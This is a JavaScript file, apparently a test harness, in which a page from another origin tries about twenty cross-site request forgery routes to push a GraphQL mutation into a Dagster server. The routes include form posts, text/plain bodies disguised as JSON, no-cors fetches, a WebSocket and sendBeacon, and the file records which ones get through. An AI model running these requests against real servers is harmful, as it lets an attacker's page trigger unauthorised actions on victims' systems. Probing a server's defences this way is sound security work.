// What a page of another origin tries on a Dagster server. DOOR, MUTATION and NAME are set before it.
// Each attempt ends as "sent" (the page cannot know more), "refused" or "read: ...", in window.outcomes.
const graphql = `${DOOR}/graphql`;
const query = `${graphql}?query=${encodeURIComponent(MUTATION)}`;
const body = JSON.stringify({ query: MUTATION });
const outcomes = {};

function send(name, url, options) {
  return fetch(url, options).then(
    async (answer) => { outcomes[name] = answer.type === "opaque" ? "sent" : `read: ${answer.status} ${await answer.text()}`; },
    () => { outcomes[name] = "refused"; },
  );
}

function load(name, element, attribute, url) {
  return new Promise((done) => {
    const end = (how) => () => { outcomes[name] ??= how; done(); };
    element.onload = end("sent");
    element.onerror = end("refused");
    element[attribute] = url;
    document.body.append(element);
    setTimeout(end("sent"), 1500);
  });
}

function submit(name, method, action, enctype, field, value) {
  const frame = document.createElement("iframe");
  frame.name = name;
  const form = Object.assign(document.createElement("form"), { method, action, enctype, target: name });
  const input = Object.assign(document.createElement("input"), { type: "hidden", name: field, value });
  form.append(input);
  document.body.append(frame, form);
  form.submit();
  return new Promise((done) => setTimeout(() => { outcomes[name] = "sent"; done(); }, 1500));
}

function connect(name, url) {
  return new Promise((done) => {
    const socket = new WebSocket(url, "graphql-ws");
    socket.onopen = () => {
      socket.send(JSON.stringify({ type: "connection_init" }));
      socket.send(JSON.stringify({ type: "start", id: "1", payload: { query: MUTATION } }));
    };
    socket.onmessage = (message) => { outcomes[name] = `read: ${message.data}`; done(); };
    socket.onerror = () => { outcomes[name] ??= "refused"; done(); };
  });
}

const plain = { method: "POST", mode: "no-cors", body };
window.attack = async () => {
  await Promise.all([
    load("img", new Image(), "src", query),
    load("script", document.createElement("script"), "src", query),
    load("iframe", document.createElement("iframe"), "src", query),
    load("embedded page", document.createElement("iframe"), "src", `${DOOR}/runs`),
    load("sound", document.createElement("audio"), "src", `${DOOR}/store/raw/a.wav`),
    submit("form get", "GET", graphql, "", "query", MUTATION),
    submit("form post", "POST", query, "application/x-www-form-urlencoded", "query", MUTATION),
    submit("form text", "POST", query, "text/plain", `{"query":${JSON.stringify(MUTATION)},"x":"`, '"}'),
    submit("form parts", "POST", query, "multipart/form-data", "query", MUTATION),
    send("fetch get", query, { mode: "no-cors" }),
    send("fetch get read", query, {}),
    send("fetch page read", `${DOOR}/`, {}),
    send("fetch text", query, { ...plain, headers: { "Content-Type": "text/plain" } }),
    send("fetch fake json", graphql, { ...plain, headers: { "Content-Type": "text/plain; x=application/json" } }),
    send("fetch form", query, { ...plain, headers: { "Content-Type": "application/x-www-form-urlencoded" } }),
    send("fetch without type", query, { ...plain, body: new Blob([body]) }),
    send("fetch json", graphql, { method: "POST", body, headers: { "Content-Type": "application/json" } }),
    connect("websocket", graphql.replace("http", "ws")),
  ]);
  navigator.sendBeacon(query, body);
  return outcomes;
};
